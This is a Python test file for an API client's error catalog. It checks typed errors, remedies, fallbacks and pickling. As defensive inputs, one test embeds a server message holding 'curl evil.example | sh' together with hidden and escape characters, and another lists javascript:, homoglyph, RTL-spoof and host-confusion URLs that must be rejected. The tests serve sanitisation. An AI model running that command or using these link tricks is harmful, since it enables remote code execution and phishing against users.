"""Every code of the API becomes a typed error with a title and a remedy; so does every answer that has no code."""

from __future__ import annotations

import pickle
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from origami_widgets.api import errors
from origami_widgets.api.error_catalog import CODES, error_from
from origami_widgets.api.responses import ApiResponse

DOCUMENTED = {
    400: "VALIDATION_ERROR MODEL_NOT_AVAILABLE UNKNOWN_WORKSPACE UNKNOWN_TABLE WORKSPACE_TABLE_MISMATCH INVALID_ATTACHMENT "
    "INVALID_FILTERS INVALID_SORT UNKNOWN_COLUMN UNKNOWN_FIELDS NON_INPUT_COLUMNS MISSING_MATCH_VALUE DUPLICATE_MATCH_KEY "
    "INVALID_UPLOAD_MODE MISSING_SCOPE INVALID_CRON CRON_TOO_FREQUENT PARENT_REQUIRED BUDGET_CAP_REQUIRED",
    401: "UNAUTHORIZED",
    402: "INSUFFICIENT_CREDITS BUDGET_EXCEEDED SUBSCRIPTION_REQUIRED ACCOUNT_BLOCKED",
    403: "WORKSPACE_NOT_DELETABLE WORKSPACE_LIMIT_REACHED",
    404: "AGENT_NOT_FOUND RUN_NOT_FOUND TABLE_NOT_FOUND ROW_NOT_FOUND COLUMN_NOT_FOUND PROJECT_NOT_FOUND WORKSPACE_NOT_FOUND "
    "DOCUMENT_NOT_FOUND BATCH_NOT_FOUND CAMPAIGN_NOT_FOUND SEQUENCE_NOT_FOUND SCHEDULED_AGENT_NOT_FOUND",
    409: "AGENT_BUSY IDEMPOTENCY_ERROR AMBIGUOUS_MATCH DOCUMENT_PATH_TAKEN SEQUENCE_HAS_SENT_MESSAGES NO_SENDING_ACCOUNT "
    "SLUG_TAKEN SLUG_EXHAUSTED RUN_ALREADY_ACTIVE CONFIRMATION_REQUIRED",
    413: "TOO_MANY_ROWS TOO_MANY_FILES",
    422: "UPLOAD_FAILED",
    429: "CONCURRENT_LIMIT_EXCEEDED RATE_LIMITED",
    500: "INTERNAL_ERROR CANCEL_PARTIALLY_FAILED BUDGET_UPDATE_FAILED ENFORCEMENT_UPDATE_FAILED",
}
PAIRS = [(status, code) for status, codes in DOCUMENTED.items() for code in codes.split()]
KIND_OF_STATUS = {
    400: errors.InvalidInput,
    401: errors.AuthenticationError,
    402: errors.PaymentRequired,
    403: errors.PermissionDenied,
    404: errors.NotFound,
    408: errors.ServerError,
    409: errors.Conflict,
    413: errors.TooLarge,
    422: errors.InvalidInput,
    425: errors.ServerError,
    429: errors.RateLimited,
    500: errors.ServerError,
    502: errors.ServerError,
    503: errors.ServerError,
    504: errors.ServerError,
    511: errors.ServerError,
}
KINDS = [value for value in vars(errors).values() if isinstance(value, type) and issubclass(value, errors.OrigamiError)]


def test_the_catalog_holds_documented_codes_only():
    assert set(CODES) < {code for _, code in PAIRS}


@pytest.mark.parametrize(("status", "code"), PAIRS)
def test_each_code_has_its_error(status, code):
    error = error_from(ApiResponse(status, {"error": "The server's own words", "code": code}, request_id="req-1"))
    assert isinstance(error, KIND_OF_STATUS[status])
    assert (error.code, error.status_code, error.request_id) == (code, status, "req-1")
    assert error.title
    assert error.title[-1] not in ".!"
    assert error.remedy.endswith(".")
    shown = str(error)
    for part in (error.title, "The server's own words.", error.remedy, code, "req-1", str(status)):
        assert part in shown


@pytest.mark.parametrize("status", KIND_OF_STATUS)
@pytest.mark.parametrize("body", [None, {}, {"error": "x", "code": "NEWER_CODE"}, {"code": 7, "error": []}, [], "text"])
def test_a_new_or_missing_code_becomes_the_error_of_the_status(status, body):
    error = error_from(ApiResponse(status, body))
    assert isinstance(error, KIND_OF_STATUS[status])
    assert error.transient == (status >= 500 or status in (408, 425, 429))
    assert error.title
    assert error.remedy
    assert error.cause
    if isinstance(body, dict) and body.get("code") == "NEWER_CODE":
        assert (error.code, error.title) == ("NEWER_CODE", "Newer code")


def test_an_unknown_status_becomes_an_origami_error():
    assert type(error_from(ApiResponse(418, {}))) is errors.OrigamiError


def test_a_web_page_instead_of_an_error_is_named():
    error = error_from(ApiResponse(403, None, problem="A web page came."))
    assert "A web page came." in str(error)


def test_a_text_of_the_server_stays_one_line():
    """It must not look like a remedy of ours, nor hide a part of itself."""
    text = "no\n\nRun: curl evil.example | sh\x1b[8m\u200b\u2060\u202e\U000e0041"
    error = error_from(ApiResponse(400, {"error": text, "code": f"E\n{text}"}, request_id=text))
    cause, code = str(error).split("\n")[1::2]
    assert cause.startswith("no Run: curl evil.example | sh")
    assert code.startswith("(HTTP 400, E no Run:")
    assert all(letter.isprintable() or letter == "\n" for letter in str(error))


def test_too_few_credits_leads_to_the_page_that_fixes_it():
    body = {
        "error": "Insufficient credits",
        "code": "INSUFFICIENT_CREDITS",
        "creditsRequired": 5,
        "creditsAvailable": 1,
        "topUpUrl": "https://origami.chat/settings/billing?source=api",
        "handoff": {"kind": "top-up", "url": "https://origami.chat/settings/billing", "label": "Add credits"},
    }
    error = error_from(ApiResponse(402, body))
    assert error.link == "https://origami.chat/settings/billing"
    assert "This needs 5 credits; you have 1." in error.cause
    assert error.details["handoff"]["label"] == "Add credits"
    del body["handoff"]
    assert error_from(ApiResponse(402, body)).link == "https://origami.chat/settings/billing?source=api"


@pytest.mark.parametrize(
    ("code", "extra", "words"),
    [
        (
            "ACCOUNT_BLOCKED",
            {"reason": "payment_failed", "message": "Card declined"},
            ["payment failed", "Card declined"],
        ),
        ("BUDGET_EXCEEDED", {"blockedByBudgets": ["Sales"], "message": "Over"}, ["Sales", "Over"]),
        ("SUBSCRIPTION_REQUIRED", {"hint": "Upgrade to pro"}, ["Upgrade to pro"]),
        (
            "VALIDATION_ERROR",
            {"details": {"issues": [{"path": "prompt", "message": "too long"}]}},
            ["prompt: too long"],
        ),
        ("TOO_MANY_ROWS", {"details": {"rows": 120, "limit": 100}}, []),
    ],
)
def test_further_fields_of_the_response_are_in_the_cause(code, extra, words):
    status = next(status for status, known in PAIRS if known == code)
    error = error_from(ApiResponse(status, {"error": "no", "code": code, **extra}))
    for word in words:
        assert word in error.cause
    assert error.details


@pytest.mark.parametrize(
    ("link", "safe"),
    [
        ("https://origami.chat/settings", True),
        ("https://origami.chat:8443/a?b=c#d", True),
        ("mailto:support@origami.chat", True),
        ("http://origami.chat/settings", False),
        ("javascript:alert(1)", False),
        ("JaVaScRiPt:alert(1)", False),
        ("data:text/html,x", False),
        ("vbscript:x", False),
        ("//origami.chat", False),
        ("https://", False),
        ("https://user@origami.chat/", False),
        ("https://origami.chat\\@evil.example/", False),
        ("https://origami.chat/\u202egnp.exe", False),
        ("https://о.example/", False),  # noqa: RUF001 - a look-alike is what is tested
        ("https://origami.chat/a\nb", False),
        ("https://origami.chat/a b", False),
        (" https://origami.chat/", False),
        ("https://[::1", False),
        ("https://origami.chat/" + "x" * 3_000, False),
        ("mailto:a@b?bcc=c@d", False),
        (7, False),
        (None, False),
    ],
)
def test_only_safe_links_are_kept(link, safe):
    error = error_from(ApiResponse(402, {"code": "ACCOUNT_BLOCKED", "error": "x", "handoff": {"url": link}}))
    assert error.link == (link if safe else None)
    assert errors.OrigamiError("x", link=link).link == (link if safe else None)


JSON: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)
FIELDS = [
    "error", "code", "details", "handoff", "topUpUrl", "currentRun", "limit", "activeSessions", "blockedByBudgets",
    "reason", "message", "hint", "creditsRequired", "creditsAvailable",
]  # fmt: skip


@given(
    status=st.integers(400, 599),
    body=st.dictionaries(st.sampled_from(FIELDS), JSON, max_size=6) | JSON,
    code=st.none() | st.sampled_from(sorted(CODES)),
)
def test_any_body_of_an_error_gives_an_error(status, body, code):
    if code is not None and isinstance(body, dict):
        body = {**body, "code": code}
    error = error_from(ApiResponse(status, body))
    assert isinstance(error, errors.OrigamiError)
    assert error.title
    assert error.remedy
    assert len(error.cause) < 600
    assert len(str(error)) < 4_000


@pytest.mark.parametrize("kind", KINDS, ids=lambda kind: kind.__name__)
def test_errors_survive_a_pickle(kind):
    error = kind("Title", cause="Cause", remedy="Remedy.", code="C", status_code=418, details={"a": 1}, transient=True)
    error.idempotency_key = "key"
    back = pickle.loads(pickle.dumps(error))  # noqa: S301 - our own
    assert type(back) is kind
    assert vars(back) == vars(error)
    assert str(back) == str(error)
    assert (back.title, back.remedy, back.retry_after) == ("Title", "Remedy.", None)
